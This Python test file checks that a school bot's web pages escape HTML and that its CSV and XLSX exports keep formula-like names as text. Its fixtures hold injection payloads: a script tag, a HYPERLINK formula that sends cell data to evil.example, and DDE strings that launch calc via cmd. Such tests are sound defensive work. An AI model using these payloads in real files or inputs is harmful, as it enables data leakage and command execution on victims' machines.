"""What people typed never becomes markup or a formula: a child named ``<script>`` is escaped on the
cabinet's pages; names and chat titles starting with = + - @ stay text in every CSV and XLSX (the
cabinet's downloads and /отчёт's files); a number such as a negative month-over-month change stays
a number (not quoted as if it were a formula)."""

from __future__ import annotations

import csv
import io
import re

from openpyxl import load_workbook

from bot.jobs.reports import prepare
from bot.services.activity import ActivityCounter
from bot.web import render, views
from tests.services.test_reports import MONTH, OCT_5, Scenario, utc

SCRIPT = "<script>alert(1)</script>"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Иванов")'
AT_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_TITLE = "=cmd|' /C calc'!A0"
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def _csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";") for cell in row]


def _assert_csv_safe(data: bytes) -> list[str]:
    cells = _csv_cells(data)
    for cell in cells:
        if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert NUMBER.fullmatch(cell), cell  # only plain numbers may start so
    return cells


def _assert_xlsx_safe(data: bytes) -> list[object]:
    book = load_workbook(io.BytesIO(data))
    values = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


async def _world(world) -> Scenario:
    s = Scenario(world)
    await s.build()
    db = world.db
    await db.execute("UPDATE person SET full_name = ? WHERE id = ?", (SCRIPT, s.p["S1"]))
    await db.execute("UPDATE person SET full_name = ? WHERE id = ?", (FORMULA_NAME, s.p["S2"]))
    await db.execute("UPDATE person SET full_name = ? WHERE id = ?", (AT_NAME, s.p["Adm"]))  # silent: listed
    await db.execute("UPDATE chat SET title = ? WHERE id = ?", (FORMULA_TITLE, s.c["c4"].id))
    await db.execute("UPDATE chat SET title = ? WHERE id = ?", (SCRIPT, s.c["c5"].id))
    counter = ActivityCounter(db)
    await s.activity(counter)
    for _ in range(12):  # August: school A credited 12, September 10 -> a change of -2
        counter.record(s.c["c1"], 521, "message", utc(2026, 8, 10, 9))
    await counter.flush()
    return s


async def test_names_and_titles_stay_text_in_every_file_and_page(world) -> None:
    await _world(world)
    db, school = world.db, world.school_a

    # /отчёт's files
    files = await prepare(db, school, MONTH, OCT_5)
    cells = _assert_csv_safe(files.csv)
    assert "'" + FORMULA_TITLE in cells and "'" + AT_NAME in cells
    values = _assert_xlsx_safe(files.xlsx)
    assert FORMULA_TITLE in values and AT_NAME in values  # kept, as text

    # the cabinet: the school page, the class page with names, their downloads
    page = await render.org_page(db, school, MONTH, now=OCT_5, show_moderation=True, show_names=True)
    html = render.org_html(page, base=f"/org/{school.id}")
    assert SCRIPT not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    class_id = await db.fetchval("SELECT id FROM class_group WHERE org_id = ? AND grade || letter = '5А'",
                                 (school.id,))
    cls = await views.class_page(db, school, class_id, MONTH, show_names=True, now=OCT_5)
    html = render.org_html(cls, base=f"/org/{school.id}/class/{class_id}")
    assert SCRIPT not in html and "&lt;script&gt;" in html
    assert "&#34;http://evil.example" in html or "&quot;http://evil.example" in html
    names = cls.table("class-names")
    assert names is not None and {SCRIPT, FORMULA_NAME} <= {row[0] for row in names.rows}
    for table in (*page.tables(), *cls.tables(), page.everything(), cls.everything()):
        _assert_csv_safe(table.csv())
        _assert_xlsx_safe(table.xlsx())
    assert "'" + FORMULA_NAME in _csv_cells(names.csv())
    assert FORMULA_NAME in _assert_xlsx_safe(names.xlsx())

    # a territory: school A's change to August is -2, a number in both files
    area = await prepare(db, world.muni, MONTH, OCT_5)
    assert "-2" in _assert_csv_safe(area.csv) and "'-2" not in _csv_cells(area.csv)
    assert -2 in _assert_xlsx_safe(area.xlsx)
    muni = await render.org_page(db, world.muni, MONTH, now=OCT_5)
    schools = muni.table("schools")
    assert schools is not None
    assert [row[-1] for row in schools.rows if row[1] == school.name] == [-2]
    assert "-2" in _assert_csv_safe(schools.csv())
    assert -2 in _assert_xlsx_safe(schools.xlsx())
